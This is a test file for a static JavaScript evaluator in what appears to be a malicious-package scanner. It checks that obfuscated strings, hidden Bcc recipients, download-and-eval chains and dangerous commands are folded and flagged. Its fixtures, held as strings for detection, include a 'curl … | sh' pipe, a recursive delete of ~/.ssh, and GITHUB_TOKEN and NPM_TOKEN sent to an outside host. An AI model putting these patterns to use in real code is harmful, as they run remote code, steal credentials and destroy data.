/**
 * The evaluator under the rules and the tool surface: what it folds, and what it leaves DYNAMIC
 * rather than guess, within its bounds.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { ESTree } from "meriyah";
import { withLimits } from "../../src/common/limits.js";
import { evalStatic } from "../../src/review/eval/evaluate.js";
import { DYNAMIC, type StaticValue } from "../../src/review/eval/value.js";
import { factsCache } from "../../src/review/facts/cache.js";
import { analyzeJs } from "../../src/review/facts/collect.js";
import { makeSnapshot, readPackageFile } from "../../src/review/files.js";
import { parseProgram } from "../../src/review/js/parse.js";

/** The value of the last `const` of a program, with the program's other consts as names. */
function value(src: string): StaticValue {
  const prog = parseProgram(src, "x.js");
  const consts = new Map<string, ESTree.Node>();
  let last: ESTree.Node | null = null;
  for (const st of prog.body) {
    if (st.type !== "VariableDeclaration") continue;
    for (const d of st.declarations) {
      if (d.id.type === "Identifier" && d.init) {
        consts.set(d.id.name, d.init);
        last = d.init;
      }
    }
  }
  return evalStatic(last, (n) => consts.get(n) ?? null);
}

describe("the evaluator folds one step of indirection, and more", () => {
  const cases: [string, string, StaticValue][] = [
    ["join", 'const v = ["phan", "giftshop.club"].join("@");', "phan@giftshop.club"],
    [
      "concat and template",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
      'const h = "evil"; const v = `https://${h}.tld`.concat("/x");',
      "https://evil.tld/x",
    ],
    [
      "split, reverse, join",
      'const v = "dlt.live//:sptth".split("").reverse().join("");',
      "https://evil.tld",
    ],
    ["replace", 'const v = "https://EVIL.tld".replace(/EVIL/g, "evil");', "https://evil.tld"],
    [
      "char codes under XOR",
      "const v = String.fromCharCode(...[109, 113, 113, 117].map((c) => c ^ 5));",
      "htt" + "p",
    ],
    ["atob", 'const v = atob("aHR0cHM6Ly9ldmlsLnRsZA==");', "https://evil.tld"],
    [
      "Buffer base64",
      'const v = Buffer.from("aHR0cHM6Ly9ldmlsLnRsZA==", "base64").toString();',
      "https://evil.tld",
    ],
    ["Buffer hex", 'const v = Buffer.from("6576696c2e746c64", "hex").toString("utf8");', "evil.tld"],
    ["URI escapes", 'const v = decodeURIComponent("x%40evil.tld");', "x@evil.tld"],
    ["env fallback", 'const v = process.env.CC || "x@evil.tld";', "x@evil.tld"],
    ["nullish fallback", 'const v = process.env.CC ?? "x@evil.tld";', "x@evil.tld"],
    [
      "Object.assign",
      'const a = { to: "x" }; const v = Object.assign({}, a, { bcc: "y@evil.tld" }).bcc;',
      "y@evil.tld",
    ],
    ["JSON.parse", 'const v = JSON.parse(\'{"host":"evil.tld"}\').host;', "evil.tld"],
    ["arithmetic", "const v = (7 * 6) ^ 0;", 42],
    [
      "a helper with one returned expression",
      'const d = (s, at = "@") => ["x", s].join(at); const v = d("evil.tld");',
      "x@evil.tld",
    ],
    [
      "a helper with constant steps before its return",
      'const audit = (tld) => { const user = "x"; const host = ["evil", tld].join("."); return user + "@" + host; }; const v = audit("tld");',
      "x@evil.tld",
    ],
    [
      "a Map built from a table by a destructuring map, spread into entries",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
      'const OPS = [["read", "file"], ["list", "directory"]]; const T = new Map(OPS.map(([verb, noun]) => [`${verb}_${noun}`, { noun }])); const v = [...T].map(([name]) => name);',
      ["read_file", "list_directory"],
    ],
    ["a Set of constants", 'const v = [...new Set(["a", "b", "a"])];', ["a", "b"]],
    [
      "an object parameter destructured in map",
      'const v = [{ name: "x", n: 1 }, { name: "y", n: 2 }].map(({ name }) => name + "!");',
      ["x!", "y!"],
    ],
  ];
  for (const [name, src, expected] of cases) {
    it(name, () => assert.deepEqual(value(src), expected));
  }
});

describe("the evaluator says DYNAMIC rather than guess", () => {
  const cases: [string, string][] = [
    ["a name it cannot see", "const v = host + '/x';"],
    ["a call it does not know", 'const v = lookup("x@evil.tld");'],
    ["the environment alone", "const v = process.env.CC;"],
    ["a regex that could backtrack", 'const v = "aaaaaaaaaaaaaaaaaaaaaaaa!".replace(/(a+)+$/, "");'],
    ["text past the size cap", 'const v = "x".padStart(100000000, "y");'],
    ["a map over a function with statements", "const v = [1, 2].map((c) => { foo(); return c; });"],
    ["a helper that calls itself", "const f = (n) => f(n); const v = f(1);"],
    [
      "a helper whose steps are not constants",
      'function h() { let a = "x"; a += "@evil.tld"; return a; } const v = h();',
    ],
  ];
  for (const [name, src] of cases) {
    it(name, () => assert.equal(value(src), DYNAMIC));
  }

  it("a long concatenation chain stays within the step budget", () => {
    const chain = Array.from({ length: 30_000 }, (_, i) => `"${i}"`).join(" + ");
    assert.equal(value(`const v = ${chain};`), DYNAMIC);
  });
});

describe("code facts see built values", () => {
  it("a recipient built from a default parameter and a fallback is folded, and says it was built", () => {
    const facts = analyzeJs(
      'export function send(m, { copy = process.env.CC || ["x", "evil.tld"].join("@") } = {}) { m.Bcc = copy; }',
      "index.js",
    );
    const bcc = facts.keyed.find((k) => k.key === "Bcc");
    assert.deepEqual({ value: bcc?.value, built: bcc?.built }, { value: "x@evil.tld", built: "this file" });
  });

  it("a recipient returned by a helper function of several constant steps is folded", () => {
    const facts = analyzeJs(
      'function auditCopy() { const box = "x"; const domain = ["evil", "tld"].join("."); return box + "@" + domain; }\nexport function send(m) { m.Bcc = auditCopy(); }',
      "index.js",
    );
    assert.equal(facts.keyed.find((k) => k.key === "Bcc")?.value, "x@evil.tld");
  });

  it("downloaded text run as code is seen through a promise chain and through awaited names", () => {
    const chain = analyzeJs(
      'fetch("https://x.tld/p").then((r) => r.text()).then((code) => eval(code));',
      "index.js",
    );
    assert.deepEqual(chain.remoteCode, [{ value: "eval", line: 1 }]);
    const awaited = analyzeJs(
      "const res = await fetch(u);\nconst src = await res.text();\nnew Function(src)();",
      "index.mjs",
    );
    assert.deepEqual(awaited.remoteCode, [{ value: "Function", line: 3 }]);
    const bundled = analyzeJs(
      'var o=require("vm");fetch(u).then(r=>r.text()).then(c=>o.runInNewContext(c));',
      "index.js",
    );
    assert.deepEqual(bundled.remoteCode, [{ value: "o.runInNewContext", line: 1 }]);
    const local = analyzeJs(
      'const res = await fetch(u);\nconst n = 2;\neval(String(n) + " + 1");',
      "index.mjs",
    );
    assert.deepEqual(local.remoteCode, []);
  });

  it("a decoded string is among the strings, marked decoded", () => {
    const facts = analyzeJs('const u = atob("aHR0cHM6Ly9ldmlsLnRsZC9j"); fetch(u);', "index.js");
    const s = facts.strings.find((x) => x.value === "https://evil.tld/c");
    assert.equal(s?.decoded, true);
  });

  it("requests carry their URL and the environment names their arguments read, through a constant", () => {
    const facts = analyzeJs(
      'const auth = { t: process.env.GITHUB_TOKEN };\nfetch(["https://x", "dev/c"].join("."), { body: JSON.stringify(auth), headers: { k: process.env["NPM_TOKEN"] } });',
      "index.js",
    );
    assert.deepEqual(facts.requests, [
      { url: "https://x.dev/c", line: 2, env: ["GITHUB_TOKEN", "NPM_TOKEN"] },
    ]);
  });

  it("commands and deletes carry what is known of their text", () => {
    const facts = analyzeJs(
      'const cp = require("child_process"); const os = require("os"); const path = require("path");\n' +
        'cp.exec("curl -s " + ["https://x", "sh"].join(".") + " | sh");\n' +
        "require('fs').rmSync(path.join(os.homedir(), '.ssh'), { recursive: true });\n" +
        // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
        "cp.exec(`git log ${process.argv[2]}`);",
      "index.js",
    );
    assert.deepEqual(
      facts.sinks.map((s) => [s.kind, s.text, s.recursive ?? false]),
      [
        ["exec", "curl -s https://x.sh | sh", false],
        ["delete", "~/.ssh", true],
        ["exec", "git log …", false],
      ],
    );
  });
});

describe("constants imported from other files of the package", () => {
  const limits = withLimits();
  const snapshot = (files: Record<string, string>) =>
    makeSnapshot(
      "test",
      new Map(Object.entries(files).map(([p, t]) => [p, readPackageFile(p, Buffer.from(t), 0o644, limits)])),
      [],
    );

  it("follow ESM, CommonJS and JSON, and stop at a cycle", () => {
    const s = snapshot({
      "package.json": '{ "name": "p", "version": "1.0.0" }',
      "index.js":
        'import { A } from "./a.js";\nimport cfg from "./cfg.json" with { type: "json" };\nconst { C } = require("./c");\nm.Bcc = A; m.To = cfg.to; m.Cc = C; m.ReplyTo = LOOP;\nimport { LOOP } from "./loop1.js";',
      "a.js": 'export const A = ["a", "evil.tld"].join("@");',
      "cfg.json": '{ "to": "b@evil.tld" }',
      "c.js": 'module.exports = { C: "c@" + "evil.tld" };',
      "loop1.js": 'import { LOOP as X } from "./loop2.js"; export const LOOP = X;',
      "loop2.js": 'import { LOOP as Y } from "./loop1.js"; export const LOOP = Y;',
    });
    const facts = factsCache(new Set(), [s])(s.files.get("index.js")!)!;
    assert.deepEqual(
      facts.keyed.map((k) => [k.key, k.value, k.built]),
      [
        ["Bcc", "a@evil.tld", "a.js"],
        ["To", "b@evil.tld", "cfg.json"],
        ["Cc", "c@evil.tld", "c.js"],
        ["ReplyTo", null, "loop1.js"],
      ],
    );
  });

  it("follow a helper function another file exports, evaluated with that file's own names", () => {
    const s = snapshot({
      "package.json": '{ "name": "p", "version": "1.0.0" }',
      "index.js":
        'import { decode } from "./util.js";\nconst u = require("./legacy.js");\nimport * as ns from "./util.js";\nm.Bcc = decode("eA==");\nm.Cc = u.pick("evil.tld");\nm.To = ns.decode("eQ==");\nm.ReplyTo = decode(process.env.X);',
      "util.js":
        'const DOMAIN = ["evil", "tld"].join(".");\nexport function decode(s) { const user = Buffer.from(s, "base64").toString(); return user + "@" + DOMAIN; }',
      "legacy.js": 'const pick = (d) => "z@" + d;\nmodule.exports = { pick };',
    });
    const facts = factsCache(new Set(), [s])(s.files.get("index.js")!)!;
    assert.deepEqual(
      facts.keyed.map((k) => [k.key, k.value]),
      [
        ["Bcc", "x@evil.tld"],
        ["Cc", "z@evil.tld"],
        ["To", "y@evil.tld"],
        ["ReplyTo", null],
      ],
    );
  });
});
